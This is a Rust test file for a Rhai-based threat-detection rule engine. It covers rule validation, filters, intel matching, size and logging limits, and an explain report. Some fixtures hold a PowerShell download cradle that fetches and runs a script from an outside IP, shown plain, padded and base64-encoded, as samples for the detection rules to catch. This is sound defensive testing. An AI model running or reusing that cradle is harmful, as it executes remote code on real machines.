use std::path::Path;
use std::sync::Arc;

use super::*;
use crate::detection::{Detection, Entity};
use crate::event::{Event, EventKind};

fn load(source: &str) -> Result<RuleDefinition, Diagnostics> {
    load_rule(Path::new("rules/r.rhai"), source, &RuleLimits::default())
}

fn problems(source: &str) -> Vec<(usize, usize, &'static str, String)> {
    load(source)
        .expect_err("the rule should not load")
        .into_iter()
        .map(|d| (d.line, d.column, d.code, d.message))
        .collect()
}

fn evaluate(rules: &[&str], event: &Event) -> (Vec<Detection>, Vec<RuleFailure>) {
    evaluate_with(&RuleLimits::default(), rules, event)
}

fn evaluate_with(
    limits: &RuleLimits,
    rules: &[&str],
    event: &Event,
) -> (Vec<Detection>, Vec<RuleFailure>) {
    let definitions: Vec<Arc<RuleDefinition>> = rules
        .iter()
        .map(|s| Arc::new(load(s).expect("rule loads")))
        .collect();
    let mut engine = RuleEngine::build(&definitions, limits, &crate::intel::IntelHandle::default())
        .expect("builds");
    let (mut detections, mut failures) = (Vec::new(), Vec::new());
    engine.evaluate(event, &[], &mut detections, &mut failures);
    (detections, failures)
}

fn process(name: &str, parent: &str) -> Event {
    let mut event = Event::new("e1", EventKind::ProcessCreate, 0);
    event.pid = Some(4242);
    event.name = Some(name.into());
    event.parent_name = Some(parent.into());
    event.cmdline = Some(format!("{name} -x"));
    event
}

const HEADER: &str =
    r#"let rule = #{ id: "r", title: "T", severity: "medium", events: ["process_create"] };"#;

#[test]
fn metadata_problems_point_at_their_key() {
    let found = problems(
        "let rule = #{\n  id: \"r\",\n  title: \"T\",\n  severity: \"severe\",\n  events: [\"process_create\", \"file_write\"],\n  tgas: [],\n};\nfn detect(event) { true }\n",
    );
    let codes: Vec<_> = found
        .iter()
        .map(|(l, c, code, _)| (*l, *c, *code))
        .collect();
    assert_eq!(
        codes,
        [
            (6, 3, "rule-unknown-key"),
            (4, 3, "rule-bad-severity"),
            (5, 3, "rule-unknown-event-type")
        ]
    );
    assert!(found[0].3.contains("did you mean `tags`"), "{}", found[0].3);
}

#[test]
fn a_rule_needs_metadata_and_a_condition() {
    assert_eq!(
        problems("fn detect(event) { true }")[0].2,
        "rule-missing-metadata"
    );
    let found = problems(HEADER);
    assert_eq!(found[0].2, "rule-matches-everything");
    let found = problems(&format!("{HEADER}\nfn detect(a, b) {{ true }}"));
    assert!(found.iter().any(|p| p.2 == "rule-detect-signature"));
}

#[test]
fn filter_on_a_field_the_events_never_carry_is_an_error() {
    let found = problems(
        r#"let rule = #{ id: "r", title: "T", severity: "low", events: ["process_create"], filter: #{ query_name: ["x"] } };"#,
    );
    assert_eq!(found[0].2, "rule-field-never-set");
}

#[test]
fn the_filter_alone_makes_a_declarative_rule() {
    let rule = r#"let rule = #{ id: "office-cmd", title: "Office cmd", severity: "high", tags: ["attack.t1059"],
        events: ["process_create"], filter: #{ parent_name: ["winword.exe"], name: "cmd.exe" } };"#;
    let (detections, failures) = evaluate(&[rule], &process("CMD.EXE", "WinWord.exe"));
    assert!(failures.is_empty());
    assert_eq!(detections.len(), 1);
    assert_eq!(&*detections[0].rule, "office-cmd");
    assert_eq!(&*detections[0].tags, ["attack.t1059".to_string()]);
    assert!(
        evaluate(&[rule], &process("cmd.exe", "explorer.exe"))
            .0
            .is_empty()
    );
}

#[test]
fn detect_can_override_and_name_the_entity() {
    let rule = format!(
        "{HEADER}\nfn detect(event) {{ #{{ title: `${{event.name}} ran`, severity: \"critical\", score: 0.75, entity: \"process\" }} }}"
    );
    let (detections, _) = evaluate(&[&rule], &process("cmd.exe", "x"));
    let d = &detections[0];
    assert_eq!(d.title, "cmd.exe ran");
    assert_eq!(d.severity, crate::detection::Severity::Critical);
    assert_eq!(d.score, Some(0.75));
    assert_eq!(
        d.entity,
        Some(Entity::Process {
            pid: 4242,
            name: Some("cmd.exe".into())
        })
    );

    let rule = format!(
        "{HEADER}\nfn detect(event) {{ #{{ entity: #{{ address: \"::ffff:10.1.2.3\" }} }} }}"
    );
    let (detections, _) = evaluate(&[&rule], &process("cmd.exe", "x"));
    assert_eq!(
        detections[0].entity,
        Some(Entity::Address {
            ip: "10.1.2.3".parse().expect("ip")
        })
    );
}

#[test]
fn a_failing_rule_is_skipped_and_reported_while_the_others_run() {
    let broken = r#"let rule = #{ id: "broken", title: "B", severity: "low", events: ["process_create"] };
fn detect(event) { event.cmdline.no_such_function() }"#;
    let bad_return = r#"let rule = #{ id: "bad-return", title: "B", severity: "low", events: ["process_create"] };
fn detect(event) { #{ severity: "apocalyptic" } }"#;
    let spins = r#"let rule = #{ id: "spins", title: "S", severity: "low", events: ["process_create"] };
fn detect(event) { let n = 0; while true { n += 1; } }"#;
    let fine = format!("{HEADER}\nfn detect(event) {{ event.name == \"cmd.exe\" }}");
    // The operations limit is what should stop `spins`, not a busy machine's clock.
    let (detections, failures) = evaluate_with(
        &sizes_only(),
        &[broken, bad_return, spins, &fine],
        &process("cmd.exe", "x"),
    );
    assert_eq!(detections.len(), 1);
    assert_eq!(&*detections[0].rule, "r");
    let failed: Vec<(&str, bool)> = failures
        .iter()
        .map(|f| (&*f.rule, !f.message.is_empty()))
        .collect();
    assert_eq!(
        failed,
        [("broken", true), ("bad-return", true), ("spins", true)]
    );
    assert!(
        failures[1]
            .message
            .contains("unknown severity `apocalyptic`"),
        "{}",
        failures[1].message
    );
    assert!(
        failures[2].message.contains("operations limit"),
        "{}",
        failures[2].message
    );
}

#[test]
fn rules_see_unknown_fields_and_absent_fields_read_as_unit() {
    let rule = format!(
        "{HEADER}\nfn detect(event) {{ event.sensor.version == \"2.1\" && (event.user ?? \"nobody\") == \"nobody\" }}"
    );
    let mut event = process("cmd.exe", "x");
    event
        .extra
        .insert("sensor".into(), serde_json::json!({"version": "2.1"}));
    assert_eq!(evaluate(&[&rule], &event).0.len(), 1);
}

#[test]
fn rules_are_indexed_by_event_type() {
    let dns = r#"let rule = #{ id: "dns", title: "D", severity: "low", events: ["dns_query"] };
fn detect(event) { true }"#;
    let definitions = vec![Arc::new(load(dns).expect("loads"))];
    let engine = RuleEngine::build(
        &definitions,
        &RuleLimits::default(),
        &crate::intel::IntelHandle::default(),
    )
    .expect("builds");
    assert_eq!(engine.rules_for(EventKind::DnsQuery), 1);
    assert_eq!(engine.rules_for(EventKind::ProcessCreate), 0);
}

#[test]
fn embedded_tests_are_parsed_with_their_line() {
    let rule = format!(
        "{HEADER}\nfn detect(event) {{ true }}\nlet tests = [\n  #{{ name: \"fires\", event: #{{ type: \"process_create\" }}, expect: true }},\n  #{{ name: \"from a file\", fixture: \"tests/fixtures/x.jsonl\", expect: #{{ severity: \"medium\" }} }},\n];"
    );
    let definition = load(&rule).expect("loads");
    assert_eq!(definition.tests.len(), 2);
    assert_eq!(definition.tests[0].line, 4);
    assert!(matches!(
        definition.tests[1].input,
        crate::cases::TestInput::Fixture(_)
    ));
    let found = problems(&format!(
        "{HEADER}\nfn detect(event) {{ true }}\nlet tests = [ #{{ name: \"no input\", expect: true }} ];"
    ));
    assert!(
        found[0]
            .3
            .contains("needs exactly one of `event`, `events` or `fixture`"),
        "{}",
        found[0].3
    );
}

#[test]
fn an_intel_filter_runs_the_rule_only_for_events_with_hits() {
    let rule = r#"let rule = #{ id: "listed", title: "Listed", severity: "high", events: ["network_connection"], filter: #{ intel: ["ip", "cidr"] } };
fn detect(event) { true }"#;
    let definition = Arc::new(load(rule).expect("loads"));
    let mut engine = RuleEngine::build(
        &[definition],
        &RuleLimits::default(),
        &crate::intel::IntelHandle::default(),
    )
    .expect("builds");
    let event = Event::new("e", EventKind::NetworkConnection, 0);
    let hit = |kind| crate::intel::IntelHit {
        value: "1.2.3.4".into(),
        indicator: "1.2.3.0/24".into(),
        kind,
        source: "feed".into(),
        confidence: 90,
        severity: 80,
        score: 87.0,
        threat: None,
        warning: None,
    };
    let (mut detections, mut failures) = (Vec::new(), Vec::new());
    engine.evaluate(&event, &[], &mut detections, &mut failures);
    assert!(detections.is_empty(), "no hits, no run");
    engine.evaluate(
        &event,
        &[hit(crate::intel::IndicatorKind::Domain)],
        &mut detections,
        &mut failures,
    );
    assert!(
        detections.is_empty(),
        "a hit of another kind does not count"
    );
    engine.evaluate(
        &event,
        &[hit(crate::intel::IndicatorKind::Cidr)],
        &mut detections,
        &mut failures,
    );
    assert_eq!(detections.len(), 1);
    let bad = r#"let rule = #{ id: "b", title: "B", severity: "high", events: ["dns_query"], filter: #{ intel: ["ipv9"] } };"#;
    assert!(
        problems(bad)
            .iter()
            .any(|p| p.3.contains("indicator kinds"))
    );
}

/// Loads a shipped rule by its file name under `rules/`.
fn shipped(name: &str) -> String {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("rules")
        .join(name);
    std::fs::read_to_string(&path).expect("the shipped rule exists")
}

fn powershell(cmdline: String) -> Event {
    let mut event = Event::new("padded", EventKind::ProcessCreate, 0);
    event.pid = Some(6100);
    event.name = Some("powershell.exe".into());
    event.parent_name = Some("winword.exe".into());
    event.cmdline = Some(cmdline);
    event
}

fn utf16_base64(text: &str) -> String {
    use base64::Engine as _;
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// The default limits with a time budget a debug build on a busy machine cannot run out of:
/// the padded-event tests are about the size limits, and the time budget has its own tests.
fn sizes_only() -> RuleLimits {
    RuleLimits {
        time_budget_ms: 10_000,
        ..RuleLimits::default()
    }
}

// Defect 3: a command line padded past the script string limit made the shipped rules fail
// with `size limit: Length of string`, so the cradle went undetected and nothing was killed.
#[test]
fn padded_download_cradle_still_fires_the_shipped_rules() {
    let cradle = "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\"";
    for cmdline in [
        format!("{cradle}{}", " ".repeat(70_000)),
        format!("{}{cradle}", " ".repeat(70_000)),
        format!(
            "powershell.exe {} -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"",
            "-nop ".repeat(100_000)
        ),
    ] {
        assert!(cmdline.len() < crate::event::MAX_EVENT_BYTES);
        let rule = shipped("powershell_download_cradle.rhai");
        let (detections, failures) = evaluate_with(&sizes_only(), &[&rule], &powershell(cmdline));
        assert_eq!(failures, [], "the rule must not fail on a padded event");
        assert_eq!(detections.len(), 1);
        assert_eq!(detections[0].severity, crate::detection::Severity::Critical);
        assert_eq!(
            detections[0].entity,
            Some(Entity::Process {
                pid: 6100,
                name: Some("powershell.exe".into())
            })
        );
    }
}

// Defect 3, its sibling: padding inside the encoded payload (spaces in the decoded script)
// made the decoded text too long for the script limit.
#[test]
fn padded_encoded_powershell_still_fires_the_shipped_rule() {
    let payload = format!(
        "{}IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1'){}",
        " ".repeat(40_000),
        " ".repeat(40_000)
    );
    let cmdline = format!(
        "powershell.exe -NoP -W Hidden -Enc {}",
        utf16_base64(&payload)
    );
    assert!(cmdline.len() < crate::event::MAX_EVENT_BYTES);
    let rule = shipped("encoded_powershell.rhai");
    let (detections, failures) = evaluate_with(&sizes_only(), &[&rule], &powershell(cmdline));
    assert_eq!(failures, [], "the rule must not fail on a padded payload");
    assert_eq!(detections.len(), 1);
    assert_eq!(detections[0].severity, crate::detection::Severity::Critical);
}

/// Log output captured while `run` runs on this thread.
pub(super) fn captured_log(run: impl FnOnce()) -> String {
    #[derive(Clone, Default)]
    struct Buffer(Arc<std::sync::Mutex<Vec<u8>>>);
    impl std::io::Write for Buffer {
        fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
            self.0
                .lock()
                .expect("not poisoned")
                .extend_from_slice(bytes);
            Ok(bytes.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let buffer = Buffer::default();
    let writer = buffer.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_ansi(false)
        .with_max_level(tracing::Level::INFO)
        .finish();
    tracing::subscriber::with_default(subscriber, run);
    let bytes = buffer.0.lock().expect("not poisoned").clone();
    String::from_utf8(bytes).expect("the log is text")
}

// Defect 6, output: `print` in a loop wrote 20 MB of log for one event.
#[test]
fn print_in_a_loop_is_rate_limited_per_rule() {
    let loud = r#"let rule = #{ id: "loud", title: "L", severity: "low", events: ["process_create"] };
fn detect(event) { let line = "x"; line.pad(5000, "x"); for i in 0..10000 { print(line); } false }"#;
    let chatty = r#"let rule = #{ id: "chatty", title: "C", severity: "low", events: ["process_create"] };
fn detect(event) { debug("chatty says hello"); false }"#;
    let log = captured_log(|| {
        let definitions: Vec<Arc<RuleDefinition>> = [loud, chatty]
            .iter()
            .map(|s| Arc::new(load(s).expect("rule loads")))
            .collect();
        let mut engine = RuleEngine::build(
            &definitions,
            &sizes_only(),
            &crate::intel::IntelHandle::default(),
        )
        .expect("builds");
        for _ in 0..3 {
            let (mut detections, mut failures) = (Vec::new(), Vec::new());
            engine.evaluate(
                &process("cmd.exe", "x"),
                &[],
                &mut detections,
                &mut failures,
            );
            assert_eq!(failures, []);
        }
    });
    let printed = log.lines().filter(|l| l.contains("xxxxxxxxxx")).count();
    assert_eq!(printed, PRINT_LINES_PER_WINDOW as usize);
    let notices = log
        .lines()
        .filter(|l| l.contains("rule `loud` reached its output limit"))
        .count();
    assert_eq!(notices, 1, "the limit is announced once per window");
    assert!(
        log.len() < 64 * 1024,
        "30,000 prints of 5 KB wrote {} bytes of log",
        log.len()
    );
    assert!(log.lines().all(|l| l.len() < PRINT_LINE_MAX + 300));
    // `debug` is written at debug level, so a log at info has none of it (the integration test
    // `debug_output_reaches_the_log_at_debug_level` runs the binary at debug level).
    let chatty_lines: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("chatty says hello"))
        .collect();
    assert_eq!(chatty_lines.len(), 0, "{log}");
}

// Defect 3's other half: the event's size raises the limits only by the event's own data, so a
// script still cannot build more than `max_string_size` beyond it, and a large event does not
// raise the limits for the next one.
#[test]
fn scripts_still_cannot_build_past_the_size_limit_beyond_the_event() {
    let builder = format!(
        "{HEADER}\nfn detect(event) {{ let extra = \"y\"; extra.pad(70000, \"y\"); (event.cmdline + extra).len() > 0 }}"
    );
    let reader = format!("{HEADER}\nfn detect(event) {{ event.cmdline.len() > 70000 }}");
    let definitions: Vec<Arc<RuleDefinition>> = [builder.as_str(), reader.as_str()]
        .iter()
        .map(|s| Arc::new(load(s).expect("rule loads")))
        .collect();
    let mut engine = RuleEngine::build(
        &definitions,
        &sizes_only(),
        &crate::intel::IntelHandle::default(),
    )
    .expect("builds");
    for cmdline in [" ".repeat(200_000), "short".to_string()] {
        let (mut detections, mut failures) = (Vec::new(), Vec::new());
        let long = cmdline.len() > 70_000;
        engine.evaluate(&powershell(cmdline), &[], &mut detections, &mut failures);
        let failed: Vec<(&str, &str)> = failures
            .iter()
            .map(|f| (&*f.rule, f.message.as_str()))
            .collect();
        assert_eq!(failed, [("r", "stopped by a size limit: Length of string")]);
        assert_eq!(
            detections.len(),
            usize::from(long),
            "the reader sees all of the event"
        );
    }
}

// Item 10: a rule failing on every event wrote one warning per event (2,000 lines for 2,000
// events). Now its first failure is written, then a count per `FAILURE_REPORT_EVERY`.
#[test]
fn a_rule_failing_on_every_event_is_logged_once_and_counted() {
    let broken = r#"let rule = #{ id: "broken", title: "B", severity: "low", events: ["process_create"] };
fn detect(event) { event.cmdline.no_such_function() }"#;
    let definitions = vec![Arc::new(load(broken).expect("loads"))];
    let mut engine = RuleEngine::build(
        &definitions,
        &sizes_only(),
        &crate::intel::IntelHandle::default(),
    )
    .expect("builds");
    let mut log = FailureLog::default();
    let start = std::time::Instant::now();
    let written = captured_log(|| {
        for n in 0..2000 {
            let (mut detections, mut failures) = (Vec::new(), Vec::new());
            let mut event = process("cmd.exe", "x");
            event.id = format!("e{n}");
            engine.evaluate(&event, &[], &mut detections, &mut failures);
            assert_eq!(failures.len(), 1);
            // The first 1,999 within a minute, the last one a minute later.
            let at = if n == 1999 {
                start + FAILURE_REPORT_EVERY
            } else {
                start
            };
            log.record_at(&failures[0], at);
        }
        log.flush();
    });
    let lines: Vec<&str> = written.lines().collect();
    assert_eq!(lines.len(), 2, "{written}");
    assert!(
        lines[0].contains("event_id=\"e0\"") || lines[0].contains("event_id=e0"),
        "{}",
        lines[0]
    );
    assert!(
        lines[1].contains("1999 more event(s)") && lines[1].contains("2000 in all"),
        "{}",
        lines[1]
    );
    assert!(lines[1].contains("`e1999`"), "{}", lines[1]);
    assert_eq!(log.total("broken"), 2000);
}

#[test]
fn failures_not_yet_written_are_written_when_the_input_ends() {
    let failure = RuleFailure {
        rule: Arc::from("r"),
        event_id: "e".into(),
        message: "boom".into(),
    };
    let mut log = FailureLog::default();
    let written = captured_log(|| {
        for _ in 0..3 {
            log.record(&failure);
        }
        log.flush();
        log.flush();
    });
    let lines: Vec<&str> = written.lines().collect();
    assert_eq!(lines.len(), 2, "{written}");
    assert!(lines[1].contains("2 more event(s)"), "{}", lines[1]);
}

/// Rhai rules see every typed field under its own name, so a field added to the model cannot be
/// forgotten at the Rhai boundary.
#[test]
fn rules_see_every_typed_field() {
    let event = crate::event::field_tests::event_with_every_field();
    let map = event_to_dynamic(&event, &[])
        .try_cast::<rhai::Map>()
        .expect("an object map");
    for field in crate::event::Field::ALL {
        assert!(
            map.contains_key(field.as_str()),
            "`event.{field}` is missing"
        );
    }
    assert_eq!(map["initiated"].as_bool(), Ok(true));
    assert_eq!(
        map["local_ip"].clone().into_string().as_deref(),
        Ok("192.0.2.2")
    );
}

/// Defect: a field typo inside `detect` (`event.comdline`) loaded silently and read `()` on
/// every event. The read is found, with its position, for the check against declared extras.
#[test]
fn a_field_typo_in_detect_is_found_with_its_position() {
    let rule = load(
        r#"let rule = #{ id: "r", title: "t", severity: "high", events: ["process_create"] };
fn detect(e) {
    let c = e.comdline ?? "";
    c.contains("x") || e?.cmdline == "y" || e.intel.len() > 0 || e["sensor"]["version"] == "2"
}"#,
    )
    .expect("an unknown event field alone does not refuse the rule");
    let reads: Vec<(String, usize, usize)> = rule
        .extra_reads
        .iter()
        .map(|r| (r.display(), r.position.line, r.position.column))
        .collect();
    assert_eq!(
        reads,
        vec![
            ("event.comdline".to_string(), 3, 15),
            ("event.sensor.version".to_string(), 4, 69),
        ]
    );
}

/// Defect: `comandline` in a filter was refused without naming the field meant.
#[test]
fn a_filter_field_typo_suggests_the_field_meant() {
    let found = problems(
        r#"let rule = #{ id: "r", title: "t", severity: "hihg", events: ["proces_create"],
    filter: #{ comandline: "x", "name|contians": "y" } };
let tests = [ #{ name: "t", event: #{}, expetc: true } ];"#,
    );
    let messages: Vec<&str> = found.iter().map(|(_, _, _, m)| m.as_str()).collect();
    for expected in [
        "`comandline` is not an event field (did you mean `cmdline`?)",
        "unknown `filter` modifier `contians` (did you mean `contains`?)",
        "unknown severity `hihg` (did you mean `high`?)",
        "unknown event type `proces_create` (did you mean `process_create`?)",
        "unknown key `expetc` in test `t` (did you mean `expect`?)",
    ] {
        assert!(
            messages.iter().any(|m| m.contains(expected)),
            "{expected} not in {messages:?}"
        );
    }
}

/// Every key the `event` map can carry from the model is one validation knows, so a correct
/// read is never warned about.
#[test]
fn event_map_keys_are_the_known_fields() {
    let event = crate::event::field_tests::event_with_every_field();
    let map = event_to_dynamic(&event, &[])
        .try_cast::<Map>()
        .expect("a map");
    for key in map.keys() {
        assert!(is_event_map_key(key), "{key}");
    }
    assert!(!is_event_map_key("comdline"));
}

/// A read in `detect` of a field none of the rule's event types carry reads `()` on every
/// event: warned about, unless one of the types carries it.
#[test]
fn a_detect_read_of_a_field_the_rules_events_never_carry_is_warned_about() {
    let rule = load(
        r#"let rule = #{ id: "r", title: "t", severity: "high", events: ["process_create"] };
fn detect(event) { event.query_name == "evil.example" || event.cmdline == "x" }"#,
    )
    .expect("a warning does not refuse the rule");
    let found: Vec<(usize, usize, &str)> = rule
        .warnings
        .iter()
        .map(|d| (d.line, d.column, d.code))
        .collect();
    assert_eq!(found, vec![(2, 26, "rule-field-never-set")]);
    assert!(
        rule.warnings
            .iter()
            .all(|d| d.level == crate::diagnostics::Level::Warning)
    );
    let both = load(
        r#"let rule = #{ id: "r", title: "t", severity: "high", events: ["process_create", "dns_query"] };
fn detect(event) { event.type == "dns_query" && event.query_name == "evil.example" }"#,
    )
    .expect("loads");
    assert!(both.warnings.is_empty(), "{:?}", both.warnings);
}

// `palisade explain` reports what `evaluate` decides: the same detections and failures, every
// filter condition (none short-circuited), what `detect` returned or its error, and what the
// rule printed on this event.
#[test]
fn explain_reports_what_evaluate_decides() {
    let filtered = r#"let rule = #{ id: "filtered", title: "F", severity: "low", events: ["process_create"],
    filter: #{ parent_name: ["winword.exe"], "cmdline|contains": ["-enc"] } };
fn detect(event) { print(`saw ${event.name}`); true }"#;
    let failing = r#"let rule = #{ id: "failing", title: "X", severity: "low", events: ["process_create"] };
fn detect(event) { debug("about to fail"); event.pid / 0 }"#;
    let quiet = r#"let rule = #{ id: "quiet", title: "Q", severity: "low", events: ["process_create"] };
fn detect(event) { () }"#;
    let definitions: Vec<Arc<RuleDefinition>> = [filtered, failing, quiet]
        .iter()
        .map(|s| Arc::new(load(s).expect("rule loads")))
        .collect();
    let build = || {
        RuleEngine::build(
            &definitions,
            &sizes_only(),
            &crate::intel::IntelHandle::default(),
        )
        .expect("builds")
    };
    for event in [process("cmd.exe", "explorer.exe"), {
        let mut e = process("powershell.exe", "WINWORD.EXE");
        e.cmdline = Some("powershell -enc AAAA".into());
        e
    }] {
        let (mut detections, mut failures) = (Vec::new(), Vec::new());
        build().evaluate(&event, &[], &mut detections, &mut failures);
        let (mut explained, mut explained_failures) = (Vec::new(), Vec::new());
        let reports = build().explain(&event, &[], &mut explained, &mut explained_failures);
        assert_eq!(explained, detections);
        assert_eq!(explained_failures, failures);
        assert_eq!(reports.len(), 3);
        let filtered = &reports[0];
        assert_eq!(filtered.filter.conditions.len(), 2, "none short-circuited");
        assert_eq!(
            filtered.filter.passed,
            definitions[0].prefilter.matches(&event, &[])
        );
        if filtered.filter.passed {
            assert!(matches!(
                filtered.detect,
                DetectReport::Returned { detected: true, .. }
            ));
            assert_eq!(filtered.output.len(), 1);
            assert_eq!(filtered.output[0].text, "saw powershell.exe");
        } else {
            assert!(filtered.filter.conditions.iter().all(|c| !c.held));
            assert_eq!(
                filtered.filter.conditions[0].actual.as_deref(),
                Some("explorer.exe")
            );
            assert_eq!(filtered.detect, DetectReport::NotRun);
            assert!(filtered.output.is_empty());
        }
        let DetectReport::Failed { message } = &reports[1].detect else {
            panic!("{:?}", reports[1].detect);
        };
        assert!(message.contains("Division by zero"), "{message}");
        assert_eq!(reports[1].output[0].kind, "debug");
        assert_eq!(
            reports[1].output[0].at.as_deref(),
            Some("line 2, position 20")
        );
        assert_eq!(
            reports[2].detect,
            DetectReport::Returned {
                value: "()".into(),
                type_name: "()".into(),
                detected: false
            }
        );
    }
}
